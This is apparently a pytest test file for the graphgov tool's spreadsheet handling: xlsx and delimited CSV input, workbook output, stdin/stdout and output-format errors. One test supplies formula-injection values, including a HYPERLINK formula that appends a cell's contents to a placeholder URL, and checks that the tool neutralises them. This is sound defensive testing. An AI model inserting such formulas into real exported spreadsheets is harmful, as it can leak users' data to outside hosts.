"""Spreadsheets both ways (.xlsx in and out, ; and tab CSV), standard input and standard output."""

from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from conftest import DATA

import graphgov
from graphgov.errors import ParseError


def workbook(path, sheets):
    book = openpyxl.Workbook()
    book.remove(book.active)
    for name, rows in sheets.items():
        ws = book.create_sheet(name)
        for row in rows:
            ws.append(row)
    book.save(path)
    return path


def test_xlsx_inventory_edge_list_and_register(tmp_path):
    book = workbook(
        tmp_path / "estate.xlsx",
        {
            "Servers": [
                ["id", "owner", "criticality", "depends_on"],
                ["001", "team-a", 4, "db"],
                ["db", "team-b", 5.0, None],
            ],
            "Edges": [["source", "target", "strength"], ["db", "001", "soft"]],
            "Register": [["node", "pilot", "scaled_at"], ["001", True, dt.datetime(2025, 6, 15)]],
        },
    )
    G = graphgov.rich(graphgov.load(book))  # the first sheet
    assert G.graph["inputs"][0]["format"] == "inventory"
    assert dict(G.nodes(data="criticality")) == {"001": 4, "db": 5}
    assert G.nodes["001"]["provenance"] == [f"{book}[Servers]:2"]
    G = graphgov.rich(graphgov.load(f"{book}::Edges"))
    assert list(G.edges(data="strength")) == [("db", "001", "soft")]
    G = graphgov.rich(
        graphgov.load(f"{book}:inventory:Servers", register=f"{book}:register:Register")
    )
    assert (G.nodes["001"]["pilot"], G.nodes["001"]["scaled_at"]) == (True, "2025-06-15")
    with pytest.raises(
        ParseError,
        match=r"estate.xlsx: no sheet named 'Nope' — the sheets are 'Servers', 'Edges', 'Register'",
    ):
        graphgov.rich(graphgov.load(f"{book}::Nope"))
    (tmp_path / "broken.xlsx").write_bytes(b"PK\x03\x04 not really")
    with pytest.raises(ParseError, match=r"broken.xlsx: not a readable .xlsx workbook"):
        graphgov.rich(graphgov.load(tmp_path / "broken.xlsx"))


@pytest.mark.parametrize("sep", [";", "\t", ","])
def test_csv_delimiters(write, sep):
    inv = write("inv.csv", f'id{sep}owner{sep}depends_on\na{sep}team x{sep}b\nb{sep}"t;y"{sep}\n')
    G = graphgov.rich(graphgov.load(inv))
    assert dict(G.nodes(data="owner")) == {"a": "team x", "b": "t;y"}
    assert list(G.edges) == [("b", "a")]
    edges = write("e.csv", f"source{sep}target\na{sep}b\n")
    assert graphgov.rich(graphgov.load(edges)).graph["inputs"][0]["format"] == "edges"


def test_xlsx_outputs_are_real_workbooks(cli, tmp_path):
    out = tmp_path / "blast.xlsx"
    args = (DATA / "org", "--register", DATA / "register.yaml", "--as-of", "2026-11-30")
    result = cli("analyze", *args, "-o", out, "-q")
    assert result.exit_code == 0, result.output
    first = out.read_bytes()
    ws = openpyxl.load_workbook(out).active
    header = [c.value for c in ws[1]]
    assert header[:3] == ["node", "name", "kind"] and ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == f"A1:{ws.cell(1, len(header)).column_letter}{ws.max_row}"
    rows = {
        r[0]: dict(zip(header, r, strict=True)) for r in ws.iter_rows(min_row=2, values_only=True)
    }
    csv = cli("analyze", *args, "--format", "csv", "-q").stdout
    assert len(rows) == len(csv.strip().splitlines()) - 1
    triage = rows["model:claims-triage-llm"]
    assert isinstance(triage["blast_radius"], int) and isinstance(
        triage["irreversibility"], int | float
    )
    assert f",{triage['blast_radius']}," in next(
        line for line in csv.splitlines() if line.startswith("model:claims-triage-llm,")
    )
    assert cli("analyze", *args, "-o", out, "-q").exit_code == 0
    assert out.read_bytes() == first  # deterministic: no save time in the workbook
    assert openpyxl.load_workbook(out).properties.modified == dt.datetime(2000, 1, 1)
    result = cli("impact", "model:claims-triage-llm", *args, "-o", tmp_path / "i.xlsx")
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(tmp_path / "i.xlsx").active
    assert [c.value for c in ws[1]] == [
        "node",
        "effect",
        "hops",
        "kind",
        "owner",
        "criticality",
        "path",
    ]
    assert isinstance(ws["C2"].value, int)


def test_xlsx_text_is_neutralised_as_in_csv(cli, write, tmp_path):
    inv = write("inv.csv", 'id,owner\na,"=HYPERLINK(""http://x/?""&A1)"\nb,-1+1\nc,@SUM(A1)\n')
    out = tmp_path / "x.xlsx"
    assert cli("analyze", inv, "-o", out, "-q").exit_code == 0
    ws = openpyxl.load_workbook(out).active
    col = [c.value for c in ws[1]].index("owner") + 1
    owners = sorted(ws.cell(r, col).value for r in range(2, 5))
    assert owners == ["'-1+1", '\'=HYPERLINK("http://x/?"&A1)', "'@SUM(A1)"]
    assert all(ws.cell(r, col).data_type == "s" for r in range(2, 5))


@pytest.mark.parametrize("ext", ["pdf", "xls", "html"])
def test_an_output_extension_graphgov_cannot_write_is_an_error(cli, write, tmp_path, ext):
    inv = write("inv.csv", "id\na\n")
    result = cli("analyze", inv, "-o", tmp_path / f"out.{ext}", "-q")
    assert result.exit_code == 2
    assert f"graphgov cannot write .{ext} files here" in result.stderr
    assert not (tmp_path / f"out.{ext}").exists()
    result = cli("analyze", inv, "--format", "csv", "-o", tmp_path / "out.xlsx", "-q")
    assert result.exit_code == 2 and "a .xlsx name for --format csv output" in result.stderr


def test_stdin_and_stdout(cli, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    result = cli(
        "analyze", "-", "-o", "-", "--format", "csv", "-q", input="id,depends_on\na,b\nb,\n"
    )
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("node,") and not (tmp_path / "-").exists()
    result = cli("analyze", "-:edges", "--format", "json", "-q", input="source;target\nx;y\n")
    assert result.exit_code == 0, result.output
    assert '"node": "x"' in result.stdout
    result = cli("ingest", "-", input='digraph G { "a.b" -> "c.d"; }\n')
    assert result.exit_code == 0, result.output
    assert "terraform" in result.stdout
    result = cli("analyze", "-:inventory", "-q", input="id\n\n")
    assert result.exit_code == 0
    result = cli("analyze", "-", input="not,a\n1,2\n")
    assert result.exit_code == 3 and "<stdin>.csv" in result.stderr


def test_stdin_bytes_are_what_was_read(monkeypatch):
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"id,owner\nq,team\n")))
    G = graphgov.rich(graphgov.load("-"))
    assert G.nodes["q"]["owner"] == "team" and G.graph["inputs"][0]["path"] == "-"
